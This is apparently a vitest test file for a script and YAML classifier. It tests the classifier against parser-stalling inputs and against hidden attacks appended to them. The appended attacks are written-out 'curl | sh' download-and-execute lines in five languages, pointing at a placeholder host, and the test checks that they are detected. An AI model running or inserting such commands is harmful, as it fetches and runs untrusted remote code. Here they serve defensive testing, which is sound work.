import { afterAll, describe, expect, test } from "vitest";
import { judgeScript } from "../../src/classify/script.ts";
import type { Script } from "../../src/model/script.ts";
import { inWorker } from "../../src/surfaces/isolation.ts";
import { catalog } from "../our-catalog.ts";

// Files that have stopped parsers before, behind a trigger. Each goes through the thread that is killed at its deadline, so the reading ends
// either with facts or with a gap; no clock of the test decides. What comes out must be judged as analysed, or as something not understood.

const DEADLINE_MS = 2_000;
const isolation = inWorker(new URL("../surfaces/start-shipped.mjs", import.meta.url), DEADLINE_MS);
afterAll(() => isolation.close());

const MINIFIED = `!function(e){${Array.from({ length: 16_000 }, (_, n) => `var a${n}=function(t,n){return t?n[${n}]:e(t*${n})+"x${n}";};`).join("")}}(console.log);`;

const SCRIPTS: readonly (readonly [what: string, path: string, text: string])[] = [
  ["1 MB of minified JavaScript", "install.js", MINIFIED],
  ["10 000 nested brackets", "install.js", `x=${"[".repeat(10_000)}${"]".repeat(10_000)}`],
  ["10 000 nested calls", "install.js", `${"f(".repeat(10_000)}${")".repeat(10_000)}`],
  ["10 000 nested blocks", "install.js", `${"{".repeat(10_000)}${"}".repeat(10_000)}`],
  ["10 000 nested brackets of Python", "setup.py", `x=${"[".repeat(10_000)}${"]".repeat(10_000)}`],
  ["200 000 terms", "install.js", `x=${Array.from({ length: 200_000 }, () => "a").join("+")}`],
  ["200 000 terms of Python", "setup.py", `x=${Array.from({ length: 200_000 }, () => "a").join("+")}`],
  ["439 KB of shell", "install.sh", "echo one && cat file | grep two\n".repeat(13_700)],
  ["300 substitutions in one another", "install.sh", `echo ${"$(echo ".repeat(300)}x${")".repeat(300)}`],
  ["150 000 calls of Ruby without an end", "install.rb", "exec(".repeat(150_000)],
  ["180 000 evaluations of Ruby", "install.rb", "eval ".repeat(180_000)],
  ["one line of 900 000 blanks", "install.php", `x${" ".repeat(900_000)}y`],
];

/** What the reading ended with: a script, or the gap that stands for it. */
async function scriptOf(path: string, text: string): Promise<Script> {
  const { facts, gap } = await isolation.read("script-file", { path, text, tracked: true, ignored: false });
  const script = facts.find((fact) => fact.kind === "script");
  if (script) return script;
  expect(gap?.path).toBe(path);
  return {
    kind: "script",
    at: { path, line: 1, column: 1, endLine: 1, endColumn: 1 },
    language: "unknown",
    acts: [],
    references: [],
    unread: "x",
  };
}

describe("a script", { timeout: 120_000 }, () => {
  test.each(SCRIPTS)("of %s is analysed or said to be not understood", async (_, path, text) => {
    const verdict = judgeScript(await scriptOf(path, text), catalog);
    expect(catalog.commandClasses.map(({ id }) => id)).toContain(verdict.class);
    expect(verdict.risk).toBe(false);
    if (verdict.unread === undefined) expect(verdict.class).not.toBe("safe-read");
  });

  test.each(SCRIPTS)("of %s does not hide an attack behind it without a word", async (_, path, text) => {
    const attack: Readonly<Record<string, string>> = {
      js: '\nrequire("child_process").execSync("curl -s https://host.example.invalid/x | sh");',
      py: '\nimport os\nos.system("curl -s https://host.example.invalid/x | sh")',
      sh: "\ncurl -s https://host.example.invalid/x | sh\n",
      rb: '\nsystem("curl -s https://host.example.invalid/x | sh")',
      php: '\nsystem("curl -s https://host.example.invalid/x | sh");',
    };
    const verdict = judgeScript(await scriptOf(path, `${text}${attack[path.split(".").at(-1) ?? ""] ?? ""}`), catalog);
    expect(verdict.class === "download-exec" || verdict.unread !== undefined).toBe(true);
  });
});

/** Shapes of YAML that took a parser half a minute. */
const YAML: readonly (readonly [what: string, text: string])[] = [
  ["flow lists in one another", `${"[".repeat(500_000)}${"]".repeat(500_000)}`],
  ["keys without an end", "? a\n".repeat(250_000)],
  ["dashes in one line", "- ".repeat(500_000)],
  ["anchors and aliases", Array.from({ length: 60_000 }, (_, n) => `a${n}: &a${n} *a${Math.max(0, n - 1)}`).join("\n")],
  ["one deeper level a line", Array.from({ length: 1_400 }, (_, n) => `${" ".repeat(n)}a:`).join("\n")],
  ["one quoted text without an end", `a: "${"x\n ".repeat(330_000)}`],
  ["comments", "a: b # c\n".repeat(110_000)],
];

describe("1 MB of YAML", { timeout: 120_000 }, () => {
  test.each(YAML)("of %s ends with facts or with a gap", async (_, text) => {
    const file = { path: ".pre-commit-config.yaml", text, tracked: true, ignored: false };
    const { facts, gap } = await isolation.read("pre-commit-config", file);
    // Nothing in these texts is a hook: without a gap the file was read to its end.
    expect(facts).toEqual([]);
    if (gap) expect(gap).toMatchObject({ path: ".pre-commit-config.yaml", reason: expect.stringContaining("pre-commit-config") as string });
  });
});
